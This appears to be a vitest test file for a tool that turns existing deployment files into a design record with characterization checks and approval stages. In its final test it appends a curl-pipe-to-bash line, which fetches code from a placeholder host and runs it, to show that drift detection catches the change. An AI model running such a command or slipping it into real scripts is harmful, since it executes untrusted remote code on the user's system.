import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { readDesign } from '../../mcp-server/src/domain/artifact/design.ts';
import { matchesPattern } from '../../mcp-server/src/domain/build/paths.ts';
import { type Project, project } from '../helpers/project.ts';
import { connect } from '../helpers/session.ts';

const tree: Record<string, string> = {
  'list.sh': '#!/bin/bash\nfor zone in b a; do echo "zone $zone"; done | sort\n',
  'deploy.sh': '#!/bin/bash\nset -e\n./list.sh > zones\nkubectl apply -f objects/ -n "${1:?namespace}"\n',
  Makefile: 'all: ## Ships it\n\techo shipping\n\ttouch shipped\n',
  'infra/main.tf':
    'variable "region" {\n  type = string\n}\n\nresource "aws_vpc" "net" {\n  cidr_block = "10.0.0.0/16"\n}\n',
  'objects/web.yaml': 'apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  ports:\n    - port: 80\n',
  'image/Dockerfile': 'FROM alpine:3.19\nUSER app\nCMD ["sh"]\n',
  '.gitlab-ci.yml': 'ship:\n  script:\n    - make all\n',
};

const playbooks: Record<string, string> = {
  'site.yml':
    '- name: Ship\n  hosts: all\n  gather_facts: false\n  roles: [web]\n  tasks:\n    - name: Say it\n      ansible.builtin.debug:\n        msg: "{{ greeting }}"\n',
  'roles/web/tasks/main.yml':
    '- name: Write the page\n  ansible.builtin.copy:\n    content: "{{ page }}"\n    dest: /tmp/page\n',
  'roles/web/defaults/main.yml': 'page: hello\n',
};

const overlays: Record<string, string> = {
  'base/kustomization.yaml': 'resources:\n  - web.yaml\n',
  'base/web.yaml': tree['objects/web.yaml']!,
  'prod/kustomization.yaml': 'resources:\n  - ../base\nnamePrefix: prod-\n',
};

const isHere = (program: string) => spawnSync('which', [program]).status === 0;

/** Of each file an edit that keeps what it does, and one that does not. */
const edits: [path: string, same: string, other: string][] = [
  ['list.sh', '# says the zones\n', 'echo more\n'],
  ['deploy.sh', '# ships it\n', 'echo "${2:?region}"\n'],
  ['Makefile', '# how it ships\n', '\trm -f shipped\n'],
  ['infra/main.tf', '# the net\n', 'output "id" {\n  value = aws_vpc.net.id\n}\n'],
  ['objects/web.yaml', '# the door\n', '---\nkind: Secret\n'],
  ['image/Dockerfile', '# the image\n', 'EXPOSE 80\n'],
  ['.gitlab-ci.yml', '# the pipeline\n', 'more:\n  script: [x]\n'],
];

function adopted(files = tree): Project {
  const work = project();
  for (const [path, text] of Object.entries(files)) work.write(path, text);
  work.git('add', '.');
  work.git('commit', '--quiet', '-m', 'what runs');
  const { exit, err } = work.cli('extract', '.', '--out', 'ship');
  expect([exit, err]).toEqual([0, '']);
  return work;
}

/** Runs the check of the component that owns a file whose title ends so, as run-check does; its exit code. */
function runs(work: Project, path: string, title: 'behaves as it did' | 'is as it was adopted'): number | null {
  const design = readDesign(work.read('deliveries/ship/design.md'));
  const owner = design.components.find(({ paths }) => paths.some((pattern) => matchesPattern(pattern, path)));
  const check = design.checks.find((one) => one.component === owner?.id && one.title.endsWith(title));
  expect(check?.command, `${path}: ${title}`).toBeDefined();
  return spawnSync(check!.command!.lang, ['-c', check!.command!.text], { cwd: work.root, env: work.env }).status;
}

describe('a characterization check', () => {
  it('passes on what runs as it is and writes nothing; stands through edits that keep the behaviour, and fails on others', () => {
    const work = adopted();
    for (const path of Object.keys(tree)) {
      expect(runs(work, path, 'behaves as it did'), path).toBe(0);
      expect(runs(work, path, 'is as it was adopted'), path).toBe(0);
    }
    expect(work.git('status', '--short')).toBe('?? deliveries/\n');
    for (const [path, same, other] of edits) {
      work.write(path, `${tree[path]}${same}`);
      expect(runs(work, path, 'is as it was adopted'), path).not.toBe(0);
      expect(runs(work, path, 'behaves as it did'), path).toBe(0);
      work.write(path, `${tree[path]}${other}`);
      expect(runs(work, path, 'behaves as it did'), path).not.toBe(0);
      work.write(path, tree[path]!);
    }
  });

  it.skipIf(!isHere('ansible-playbook'))('reads playbooks and roles with Ansible itself', { timeout: 120_000 }, () => {
    const work = adopted(playbooks);
    for (const path of Object.keys(playbooks)) expect(runs(work, path, 'behaves as it did'), path).toBe(0);
    work.write(
      'roles/web/tasks/main.yml',
      `${playbooks['roles/web/tasks/main.yml']}- name: More\n  ansible.builtin.meta: noop\n`,
    );
    expect(runs(work, 'roles/web/tasks/main.yml', 'behaves as it did')).not.toBe(0);
    expect(runs(work, 'site.yml', 'behaves as it did'), 'the role is part of the play').not.toBe(0);
    expect(work.read('deliveries/ship/design.md')).toContain('Where it runs there has to be `ansible-playbook`.');
  });

  it.skipIf(!isHere('kubectl'))('renders overlays with kubectl itself', () => {
    const work = adopted(overlays);
    expect(runs(work, 'prod/kustomization.yaml', 'behaves as it did')).toBe(0);
    work.write('prod/kustomization.yaml', `# production\n${overlays['prod/kustomization.yaml']}`);
    expect(runs(work, 'prod/kustomization.yaml', 'behaves as it did')).toBe(0);
    work.write('prod/kustomization.yaml', overlays['prod/kustomization.yaml']!.replace('prod-', 'live-'));
    expect(runs(work, 'prod/kustomization.yaml', 'behaves as it did')).not.toBe(0);
  });

  it('is not drafted for a tree without a commit', () => {
    const bare = project();
    bare.write('list.sh', tree['deploy.sh']!);
    expect(bare.cli('extract', '.', '--out', 'ship').exit).toBe(0);
    expect(bare.read('deliveries/ship/design.md')).not.toMatch(/^### CHK-.*behaves as it did/m);
  });
});

describe('adoption from the first look to the approved record', () => {
  it('passes every gate with the drafted checks as evidence, without a change to what runs', async () => {
    const work = adopted({ 'list.sh': tree['list.sh']!, Makefile: 'all: ## Ships it\n\t./list.sh\n' });
    const mcp = await connect(work);
    const path = 'deliveries/ship/requirements.md';
    const open = async (stage: string) => {
      const { data, blocks } = await mcp.call('submit', { delivery: 'ship', stage });
      expect(blocks).toEqual([]);
      expect(work.types(String(data['digest']).slice(0, 12))).toContain(`Approved stage:${stage} of ship`);
    };
    // Only people know the answers; everything else of the draft is taken as it is.
    expect((await mcp.call('submit', { delivery: 'ship', stage: 'requirements' })).blocks.join()).toContain(
      'Q-1 has no answer',
    );
    work.write(path, work.read(path).replaceAll('- Answer:', '- Answer: as the team says'));
    await open('requirements');
    const { data } = await mcp.call('probe', { delivery: 'ship', tools: ['bash', 'make', 'git'] });
    const needs = [...work.read(path).matchAll(/^### (CAP-\d+): (.*)$/gm)].map(([, id, title]) => [
      id!,
      /make/.test(title!) ? 'make' : 'bash',
    ]);
    await mcp.put(
      'ship',
      'feasibility',
      `---\ncountersign: feasibility/1\ndecision: feasible\nplatform: ${String(data['platform'])}\n---\n\n## Findings\n\n| Need | Status | Fact | Evidence |\n| --- | --- | --- | --- |\n${needs.map(([id, tool]) => `| ${id} | resolved | ${tool} is here | probe:tool/${tool} |`).join('\n')}\n\n## Reuse\n\nAll of it.\n\n## Open questions\n\nNone.\n`,
    );
    await open('feasibility');
    await open('design');
    const design = readDesign(work.read('deliveries/ship/design.md'));
    expect(design.components.every(({ action }) => action === 'adopt')).toBe(true);
    expect((await mcp.call('tasks', { delivery: 'ship' })).next).toMatch(/^start TSK-\d.1, then run CHK-\d/);
    for (const { id, title } of design.checks.filter(({ method }) => method === 'command'))
      expect((await mcp.call('run_check', { delivery: 'ship', check: id })).said, title).toContain('passed');
    await open('build');
    expect((await mcp.call('as_built', { delivery: 'ship' })).blocks).toEqual([]);
    await open('as-built');
    expect(work.git('status', '--short', 'list.sh', 'Makefile')).toBe('');
    // What was there at adoption is known; what comes later is not.
    const compare = () => work.cli('extract', '.', '--compare', 'ship', '--fail-on', 'warning').exit;
    expect(compare()).toBe(0);
    work.write('list.sh', `${tree['list.sh']}curl -fsS https://example.org/x | bash\n`);
    expect(compare()).toBe(1);
  });
});
